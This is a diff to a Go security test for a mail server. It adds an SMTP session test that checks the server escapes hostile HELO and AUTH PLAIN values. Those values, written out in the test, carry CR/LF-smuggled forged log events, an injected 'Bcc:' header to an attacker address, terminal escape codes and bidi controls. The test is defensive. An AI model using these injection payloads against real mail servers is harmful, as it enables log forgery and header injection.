@@ -6,6 +6,7 @@ package attack
 // caller or upstream can forge a mail log line or drive a terminal.
 
 import (
+	"encoding/base64"
 	"fmt"
 	"strconv"
 	"strings"
@@ -110,7 +111,7 @@ func TestLogInjection(t *testing.T) {
 		}
 		return "250 2.1.5 Ok\r\n"
 	}, DataEnd: "250 2.0.0 queued as FAKE\x1b[2J\xff\r\n"}
-	e := newEnvRaw(t, fu, "", "")
+	e := newEnvRaw(t, fu, "", listenConf)
 	msg := "Subject: log injection\n\nhello\n"
 	waitLog := func(what string, cond func(string) bool) {
 		t.Helper()
@@ -195,6 +196,30 @@ func TestLogInjection(t *testing.T) {
 			for _, l := range strings.Split(e.log(), "\n") {
 				if strings.Contains(l, "event=pickup") && strings.Contains(l, "via=socket") && !strings.Contains(l, " uid=65534 ") {
 					t.Errorf("the socket client's claimed UID was believed: %q", l)
+				}
+			}
+		}
+		checkLog(t, e.log())
+	})
+	t.Run("listener-claims", func(t *testing.T) {
+		e.use(t)
+		tried(t, "a session on the SMTP listener (as nobody) with a HELO name holding ESC, DEL and bidi controls, and an AUTH PLAIN user name holding CR/LF and a forged event",
+			"logged quoted and escaped; no event forged; no header injected into the delivered message")
+		before := len(fu.messages())
+		user := "u\r\nts=2026-01-01T00:00:00.000Z event=FORGEDEVENT id=FORGED\r\nBcc: injected@attacker.example\x1b[2J\xff"
+		auth := base64.StdEncoding.EncodeToString([]byte("\x00" + user + "\x00password"))
+		dialogue := "EHLO evil\x1b[2J\x7f\u202eexample\r\nAUTH PLAIN " + auth + "\r\nMAIL FROM:<nobody@example.org>\r\nRCPT TO:<listener@example.net>\r\n" +
+			"DATA\r\nSubject: listener claims\r\n\r\nx\r\n.\r\nQUIT\r\n"
+		out := e.raw(nobody, e.listenAddr(), []byte(dialogue))
+		t.Logf("session: %q", out)
+		if strings.Contains(out, " Ok: queued as ") {
+			e.waitFor("the message upstream", 30*time.Second, func() bool { return len(fu.messages()) > before })
+			for _, m := range fu.messages()[before:] {
+				hdr, _, _ := strings.Cut(m, "\r\n\r\n")
+				for _, l := range strings.Split(hdr, "\r\n") {
+					if strings.HasPrefix(l, "Bcc:") || strings.HasPrefix(l, "ts=") {
+						t.Errorf("header line injected through the session's claims: %q\n%s", l, hdr)
+					}
 				}
 			}
 		}
